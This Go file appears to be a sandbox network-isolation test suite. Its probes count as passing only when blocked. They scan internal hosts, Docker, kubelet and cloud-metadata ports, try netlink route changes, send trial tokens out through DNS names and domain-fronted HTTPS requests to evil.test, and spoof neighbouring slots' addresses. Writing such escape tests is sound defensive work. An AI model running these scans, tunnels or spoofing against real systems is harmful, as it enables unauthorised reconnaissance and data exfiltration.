package main

import (
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// targets are addresses of other hosts.
var targets = []string{"10.99.0.10", "10.99.0.1", "93.184.215.14", "10.77.0.1", "10.77.0.2", "10.77.0.3", "127.0.0.1", "127.0.0.11", "169.254.169.254", "172.17.0.1", "8.8.8.8"}

// routes tries to change the network configuration.
func routes(task) (bool, string) {
	return each(map[string]func() error{
		"address": func() error { return netlink(unix.RTM_NEWADDR) }, "link": func() error { return netlink(unix.RTM_NEWLINK) }, "route": func() error { return netlink(unix.RTM_NEWROUTE) }, "rule": func() error { return netlink(unix.RTM_NEWRULE) },
		"bind to a privileged port": func() error {
			l, err := net.Listen("tcp4", "0.0.0.0:443")
			if err == nil {
				_ = l.Close()
			}
			return err
		},
		"transparent socket": func() error {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			return unix.SetsockoptInt(fd, unix.SOL_IP, unix.IP_TRANSPARENT, 1)
		},
		"mark": func() error {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			return unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_MARK, 1)
		},
	})(task{})
}

// netlink sends one request of a type with an empty body. A kernel that would process it returns EINVAL or similar, one
// that refuses it EPERM. Only EPERM is an error here.
func netlink(kind uint16) error {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_ROUTE)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	msg := make([]byte, 48)
	msg[0] = byte(len(msg))
	msg[4], msg[5], msg[6] = byte(kind), byte(kind>>8), unix.NLM_F_REQUEST|unix.NLM_F_ACK
	if err := unix.Sendto(fd, msg, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return err
	}
	answer := make([]byte, 4096)
	n, _, err := unix.Recvfrom(fd, answer, 0)
	if err != nil || n < 20 {
		return err
	}
	errno := -int32(uint32(answer[16]) | uint32(answer[17])<<8 | uint32(answer[18])<<16 | uint32(answer[19])<<24)
	if unix.Errno(errno) == unix.EPERM {
		return unix.EPERM
	}
	return nil
}

// ports connects to every port but 80, 443 and 53 of every target.
func ports(task) (bool, string) {
	var open []string
	n := 0
	for _, host := range targets {
		for _, port := range []int{22, 25, 54, 111, 2375, 2376, 6443, 8080, 8081, 8443, 9000, 9090, 10250, 44300} {
			n++
			c, err := net.DialTimeout("tcp4", net.JoinHostPort(host, strconv.Itoa(port)), 150*time.Millisecond)
			if err == nil {
				_ = c.Close()
				open = append(open, c.RemoteAddr().String())
			}
		}
	}
	return len(open) == 0, fmt.Sprintf("%d tried, open %v", n, open)
}

func ipv6(task) (bool, string) {
	var open []string
	for _, host := range []string{"::1", "2606:4700:4700::1111", "::ffff:127.0.0.1", "fe80::1"} {
		for _, port := range []string{"22", "8080", "9000"} {
			if c, err := net.DialTimeout("tcp", net.JoinHostPort(host, port), 150*time.Millisecond); err == nil {
				_ = c.Close()
				open = append(open, host)
			}
		}
	}
	for _, port := range []string{"80", "443"} {
		if c, err := net.DialTimeout("tcp6", net.JoinHostPort("2606:4700:4700::1111", port), 150*time.Millisecond); err == nil {
			_ = c.Close()
			open = append(open, "IPv6 on port "+port)
		}
	}
	return len(open) == 0, fmt.Sprint("open ", open)
}

// udp sends to every target and waits for responses, of which there must be none.
func udp(t task) (bool, string) {
	for _, host := range targets {
		for _, port := range []int{67, 123, 161, 443, 514, 5353, 51820} {
			c, err := net.Dial("udp4", net.JoinHostPort(host, strconv.Itoa(port)))
			if err != nil {
				continue
			}
			_ = c.SetDeadline(time.Now().Add(20 * time.Millisecond))
			_, _ = io.WriteString(c, t.Trial)
			if n, _ := c.Read(make([]byte, 100)); n > 0 {
				return false, "an answer from " + c.RemoteAddr().String()
			}
			_ = c.Close()
		}
	}
	return true, "no answer"
}

// resolver is the sandbox's own.
const resolver = "198.18.0.1"

// names asks every possible server for a name that carries data. The test checks whether the question was passed on.
func names(t task) (bool, string) {
	question := func(name string, kind byte) []byte {
		q := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
		for label := range strings.SplitSeq(name, ".") {
			q = append(append(q, byte(len(label))), label...)
		}
		return append(q, 0, 0, kind, 0, 1)
	}
	answers := 0
	for _, host := range append([]string{resolver}, targets...) {
		for _, kind := range []byte{1, 16, 28, 255} {
			c, err := net.Dial("udp4", host+":53")
			if err != nil {
				continue
			}
			patience := 50 * time.Millisecond
			if host == resolver { // which does answer
				patience = 2 * time.Second
			}
			_ = c.SetDeadline(time.Now().Add(patience))
			_, _ = c.Write(question(t.Trial+".evil.test", kind))
			b := make([]byte, 512)
			n, err := c.Read(b)
			_ = c.Close()
			if err == nil && n > 7 {
				answers++
				if b[7] > 0 {
					return false, fmt.Sprintf("%s answered with %d records", host, b[7])
				}
			}
		}
	}
	return answers > 0, fmt.Sprintf("%d answers, all empty", answers) // none: nobody was asked
}

// fronted makes TLS connections to every target for a host that is in no API. Only the proxy may answer.
func fronted(t task) (bool, string) {
	var seen []string
	for _, host := range targets {
		raw, err := net.DialTimeout("tcp4", host+":443", 300*time.Millisecond)
		if err != nil {
			continue
		}
		c := tls.Client(raw, &tls.Config{ServerName: "evil.test", InsecureSkipVerify: true}) //nolint:gosec // an attack
		_ = c.SetDeadline(time.Now().Add(time.Second))
		if err := c.Handshake(); err == nil {
			issuer := c.ConnectionState().PeerCertificates[0].Issuer.CommonName
			_, _ = fmt.Fprintf(c, "GET /anything?t=%s HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n", t.Trial)
			answer, _ := io.ReadAll(io.LimitReader(c, 4096))
			if strings.Contains(issuer, "upstream") || strings.HasPrefix(string(answer), "HTTP/1.1 2") {
				return false, host + " let it through: " + issuer
			}
			seen = append(seen, host)
		}
		_ = c.Close()
	}
	return len(seen) > 0, fmt.Sprintf("the proxy refused %d times", len(seen)) // never: nobody was reached
}

// listen waits four seconds for a connection from another run, on an abstract socket and on TCP.
func listen(t task) (bool, string) {
	caught := make(chan string, 8)
	for _, at := range []struct{ network, address string }{{"unix", "@" + t.Trial}, {"tcp4", "0.0.0.0:18222"}} {
		l, err := net.Listen(at.network, at.address)
		if err != nil {
			continue
		}
		defer l.Close()
		go func() {
			if _, err := l.Accept(); err == nil {
				caught <- at.network
			}
		}()
	}
	select {
	case network := <-caught:
		return false, "a neighbour came over " + network
	case <-time.After(4 * time.Second):
		return true, "nobody came"
	}
}

// neighbour tries for three seconds to connect to another run that listens.
func neighbour(t task) (bool, string) {
	for range 15 {
		for _, at := range []struct{ network, address string }{{"unix", "@" + t.Trial}, {"tcp4", "127.0.0.1:18222"}, {"tcp4", "10.77.0.100:18222"}, {"tcp4", "10.77.0.101:18222"}, {"tcp4", "10.77.0.102:18222"}, {"tcp4", "10.77.0.103:18222"}, {"tcp4", "10.77.0.200:18222"}, {"tcp4", "10.77.0.201:18222"}, {"tcp4", "10.77.0.202:18222"}} {
			if c, err := net.DialTimeout(at.network, at.address, 50*time.Millisecond); err == nil {
				_ = c.Close()
				return false, "reached it at " + at.address
			}
		}
		time.Sleep(100 * time.Millisecond)
	}
	return true, "nobody there"
}

// linger keeps sending requests for two minutes.
func linger(trial string) {
	for range 600 {
		if raw, err := net.DialTimeout("tcp4", "198.18.0.1:443", 300*time.Millisecond); err == nil {
			c := tls.Client(raw, &tls.Config{ServerName: "httpbin.test", InsecureSkipVerify: true}) //nolint:gosec // an attack
			_ = c.SetDeadline(time.Now().Add(time.Second))
			_, _ = fmt.Fprintf(c, "GET /anything?t=%s HTTP/1.1\r\nHost: httpbin.test\r\nConnection: close\r\n\r\n", trial)
			_, _ = io.Copy(io.Discard, c)
			_ = c.Close()
		}
		time.Sleep(200 * time.Millisecond)
	}
}

// another sends requests and DNS questions from the addresses of other slots.
func another(t task) (bool, string) {
	tried := 0
	for n := range 16 {
		from := net.IPv4(10, 77, 0, byte(100+n))
		if n == os.Getuid()-20000 {
			continue
		}
		for _, free := range []int{0, 1} {
			d := net.Dialer{Timeout: 300 * time.Millisecond, LocalAddr: &net.TCPAddr{IP: from}, Control: func(_, _ string, c syscall.RawConn) error {
				return c.Control(func(fd uintptr) { _ = unix.SetsockoptInt(int(fd), unix.SOL_IP, unix.IP_FREEBIND, free) })
			}}
			for _, to := range []string{"198.18.0.1:443", "10.77.0.2:443", "10.77.0.2:80", "198.18.0.1:53"} {
				tried++
				if c, err := d.Dial("tcp4", to); err == nil {
					_ = c.Close()
					return false, fmt.Sprintf("a connection from %s to %s", from, to)
				}
			}
		}
		u := net.Dialer{LocalAddr: &net.UDPAddr{IP: from}}
		if c, err := u.Dial("udp4", "198.18.0.1:53"); err == nil {
			_ = c.SetDeadline(time.Now().Add(100 * time.Millisecond))
			_, _ = c.Write([]byte("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07httpbin\x04test\x00\x00\x01\x00\x01"))
			n, _ := c.Read(make([]byte, 512))
			_ = c.Close()
			if n > 0 {
				return false, fmt.Sprintf("an answer for %s", from)
			}
		}
		tried++
	}
	return true, fmt.Sprintf("%d tried", tried)
}
